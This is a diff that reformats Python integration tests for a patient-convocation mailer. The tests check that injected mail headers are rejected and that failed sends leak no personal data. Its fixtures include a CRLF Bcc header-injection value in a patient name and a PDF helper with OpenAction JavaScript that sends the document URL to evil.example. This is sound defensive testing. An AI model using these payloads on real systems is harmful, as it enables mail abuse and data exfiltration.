@@ -80,16 +80,21 @@ async def test_the_mailer_takes_the_envelope_from_the_message_not_from_its_heade
     past the contracts) is parked by the mailer; nothing goes to the injected address."""
     event = chain.event()
     convocation = Envelope[ConvocationCreatedV1].model_validate(event).data
-    evil = convocation.model_copy(update={"patient": convocation.patient.model_copy(
-        update={"name": "Marie\r\n Bcc: attacker@evil.example"})})
-    keys = domain.SealingKeys(seal_keys={"k1": _decode_key(dev_key("seal-k1"))},
-                              patient_ref_key=_decode_key(dev_key("patient-ref")),
-                              mailer_field_key=_decode_key(dev_key("mailer-field")),
-                              portal_field_key=_decode_key(dev_key("portal-field")))
-    sealed = domain.seal_convocation(evil, sample_pdf(), keys, send_email=True,
-                                     expires_at=datetime.now(timezone.utc) + timedelta(days=30))
-    message = json.loads(envelope(sealed, producer="issuer", correlation_id=convocation.convocation_id)
-                         .model_dump_json())
+    evil = convocation.model_copy(
+        update={"patient": convocation.patient.model_copy(update={"name": "Marie\r\n Bcc: attacker@evil.example"})}
+    )
+    keys = domain.SealingKeys(
+        seal_keys={"k1": _decode_key(dev_key("seal-k1"))},
+        patient_ref_key=_decode_key(dev_key("patient-ref")),
+        mailer_field_key=_decode_key(dev_key("mailer-field")),
+        portal_field_key=_decode_key(dev_key("portal-field")),
+    )
+    sealed = domain.seal_convocation(
+        evil, sample_pdf(), keys, send_email=True, expires_at=datetime.now(timezone.utc) + timedelta(days=30)
+    )
+    message = json.loads(
+        envelope(sealed, producer="issuer", correlation_id=convocation.convocation_id).model_dump_json()
+    )
     await chain.publish(message)
     queue = f"{chain.exchange}.mailer.message.sealed.v1"
     parked = await chain.dead_letters(queue, {message["event_id"]})
@@ -128,8 +133,9 @@ async def test_a_failed_mail_leaves_no_name_or_address_in_logs_tables_or_reports
         address = event["data"]["patient"]["email"]
         cid = event["data"]["convocation_id"]
         await chain.publish(event)
-        reports = await chain.upstream("convocation.status.v1", cid,
-                                       until=lambda es: any(e["data"]["status"] == "bounced" for e in es))
+        reports = await chain.upstream(
+            "convocation.status.v1", cid, until=lambda es: any(e["data"]["status"] == "bounced" for e in es)
+        )
     finally:
         stack.extra_env["mailer"] = saved
         stack.stop(["mailer"])
@@ -138,23 +144,26 @@ async def test_a_failed_mail_leaves_no_name_or_address_in_logs_tables_or_reports
     assert relay.refused == 1
     bounced = next(e for e in reports if e["data"]["status"] == "bounced")
     assert bounced["data"]["detail"] == "554 relay-refused 5.7.1"  # the code, never the relay's text
-    row = await chain.db.fetchrow("select last_code, last_error from mailer.email where convocation_id = $1",
-                                  uuid.UUID(cid))
+    row = await chain.db.fetchrow(
+        "select last_code, last_error from mailer.email where convocation_id = $1", uuid.UUID(cid)
+    )
     assert dict(row) == {"last_code": 554, "last_error": "relay-refused 5.7.1"}
-    history = await chain.db.fetch("select detail from issuer.status_history where convocation_id = $1",
-                                   uuid.UUID(cid))
-    everything = "\n".join([await chain.dump_all_tables(), stack.logs(), json.dumps(reports),
-                            *(str(h["detail"]) for h in history)])
+    history = await chain.db.fetch("select detail from issuer.status_history where convocation_id = $1", uuid.UUID(cid))
+    everything = "\n".join(
+        [await chain.dump_all_tables(), stack.logs(), json.dumps(reports), *(str(h["detail"]) for h in history)]
+    )
     for leaked in (name, name.split()[1], address, address.split("@")[0], "Message refused for"):
         assert leaked not in everything
 
 
 def pdf_with_open_action_javascript() -> bytes:
     writer = PdfWriter(clone_from=io.BytesIO(sample_pdf("Convocation")))
-    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
-        NameObject("/S"): NameObject("/JavaScript"),
-        NameObject("/JS"): TextStringObject("app.launchURL('https://evil.example/?'+this.URL)"),
-    })
+    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
+        {
+            NameObject("/S"): NameObject("/JavaScript"),
+            NameObject("/JS"): TextStringObject("app.launchURL('https://evil.example/?'+this.URL)"),
+        }
+    )
     out = io.BytesIO()
     writer.write(out)
     return out.getvalue()
